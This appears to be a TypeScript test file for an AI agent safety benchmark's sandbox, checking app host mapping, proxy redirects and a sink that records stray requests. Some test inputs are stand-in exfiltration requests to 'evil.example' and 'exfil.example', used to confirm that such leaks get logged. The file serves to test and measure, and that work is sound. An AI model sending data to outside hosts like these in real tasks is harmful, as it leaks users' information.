import { request } from "node:http";
import { describe, expect, it } from "vitest";
import { APP_HOSTS, appOfHost } from "../../src/scenario/index.js";
import { SinkEntrySchema, usesAppHosts } from "../../src/workspace/index.js";
import { forumScenario } from "./forum-fixture.js";
import { richScenario } from "./rich-fixture.js";
import { scenario, useWorkspace } from "./workspace-helpers.js";

/** One GET to the workspace's listener: an absolute URL as a proxy client sends it, or a path (sent to the listener's own address unless a Host header says otherwise). */
function viaProxy(
  proxy: string,
  url: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; location?: string; body: string }> {
  const { hostname, port } = new URL(proxy);
  return new Promise((resolve, reject) => {
    const target = url.startsWith("/") ? { host: new URL(proxy).host } : { host: new URL(url).host };
    const outgoing = request({ hostname, port, path: url, headers: { ...target, ...headers } }, (response) => {
      let body = "";
      response.on("data", (chunk) => {
        body += chunk;
      });
      response.on("end", () =>
        resolve({ status: response.statusCode ?? 0, ...(response.headers.location && { location: response.headers.location }), body }),
      );
    });
    outgoing.on("error", reject);
    outgoing.end();
  });
}

const forum = scenario(forumScenario());

describe("app hosts", () => {
  it("one table names each hosted app's host; AgentCIBench's six apps keep the workspace's origin", () => {
    expect(APP_HOSTS).toEqual({
      forum: "forum.brightpath.example",
      mail: "mail.brightpath.example",
      tracker: "tracker.brightpath.example",
      files: "files.brightpath.example",
      terminal: "terminal.brightpath.example",
    });
    expect(appOfHost("tracker.brightpath.example")).toBe("tracker");
    expect(appOfHost("forum.brightpath.example")).toBe("forum");
    expect(appOfHost("brightpath.example")).toBeUndefined();
    expect(usesAppHosts(forum.state)).toBe(true);
    expect(usesAppHosts(scenario(richScenario()).state)).toBe(false);
  });
});

describe("the workspace's listener as the mapped browser's proxy", () => {
  const workspace = useWorkspace();
  let counter = 0;
  const fresh = () => {
    const id = `hosts-${++counter}`;
    workspace().reset(id, forum);
    return { id, mapping: workspace().hostMapping(id) };
  };

  it("serves the forum on its host and sends another app's page back to the workspace's origin", async () => {
    const { id, mapping } = fresh();
    expect(mapping.proxy).toBe(workspace().url);
    expect(mapping.hosts).toEqual([
      "forum.brightpath.example",
      "mail.brightpath.example",
      "tracker.brightpath.example",
      "files.brightpath.example",
      "terminal.brightpath.example",
    ]);
    const page = await viaProxy(mapping.proxy, `http://forum.brightpath.example/e/${id}/forum`);
    expect(page.status).toBe(200);
    expect(page.body).toContain("How do you back up your NAS?");
    const home = await viaProxy(mapping.proxy, `http://forum.brightpath.example/e/${id}/`);
    expect([home.status, home.location]).toEqual([302, `${workspace().url}/e/${id}/`]);
  });

  it("on its own origin: redirects to the forum's host only when the browser says it maps hosts", async () => {
    const { id } = fresh();
    const direct = `${workspace().url}/e/${id}/forum`;
    expect((await fetch(direct, { redirect: "manual" })).status).toBe(200);
    const mapped = await fetch(direct, { redirect: "manual", headers: { "x-safecua-host": new URL(workspace().url).host } });
    expect([mapped.status, mapped.headers.get("location")]).toEqual([302, `http://forum.brightpath.example/e/${id}/forum`]);
    const home = await fetch(`${workspace().url}/e/${id}/`, {
      redirect: "manual",
      headers: { "x-safecua-host": new URL(workspace().url).host },
    });
    expect(home.status).toBe(200);
  });

  it("serves a direct request under another name of its address (localhost in a person's browser) as before", async () => {
    const { id } = fresh();
    const direct = await viaProxy(workspace().url, `/e/${id}/forum`, { host: `localhost:${new URL(workspace().url).port}` });
    expect(direct.status).toBe(200);
    expect(direct.body).toContain("How do you back up your NAS?");
    expect(workspace().sinkLog(id)).toEqual([]);
  });

  it("answers a stray request for an unknown host with the sink's page and records it in the Referer's episode", async () => {
    const { id, mapping } = fresh();
    const stray = await viaProxy(mapping.proxy, "http://evil.example/grab?x=1", {
      referer: `http://forum.brightpath.example/e/${id}/forum`,
    });
    expect(stray.status).toBe(200);
    expect(stray.body).toContain("Your request was received.");
    expect(stray.body).not.toContain("quill_harbor");
    const sink = workspace().sinkLog(id);
    expect(sink).toHaveLength(1);
    expect(SinkEntrySchema.parse(sink[0])).toMatchObject({
      seq: 1,
      method: "GET",
      host: "evil.example",
      path: "/grab",
      query: [["x", "1"]],
      resource_type: "redirect",
    });
  });

  it("records what the mapping's sink is given, numbered and placed after the last change, and the admin API returns it", async () => {
    const { id, mapping } = fresh();
    mapping.sink({ method: "POST", url: "https://exfil.example/c?k=v", resourceType: "fetch", body: "a=b" });
    await fetch(`${workspace().url}/e/${id}/forum/consent`, {
      method: "POST",
      body: new URLSearchParams({ choice: "accepted" }),
      redirect: "manual",
    });
    mapping.sink({ method: "GET", url: "http://pixel.example/p.gif", resourceType: "image", body: null });
    const sink = workspace().sinkLog(id);
    expect(sink.map((entry) => [entry.seq, entry.after_change, entry.host])).toEqual([
      [1, 0, "exfil.example"],
      [2, 1, "pixel.example"],
    ]);
    const response = await fetch(`${workspace().adminUrl}/episodes/${id}/sink`, {
      headers: { authorization: `Bearer ${workspace().adminToken}` },
    });
    expect(await response.json()).toEqual(sink);
    workspace().reset(id, forum);
    expect(workspace().sinkLog(id)).toEqual([]);
    workspace().delete(id);
    expect(() => mapping.sink({ method: "GET", url: "http://late.example/", resourceType: "image", body: null })).not.toThrow();
  });
});
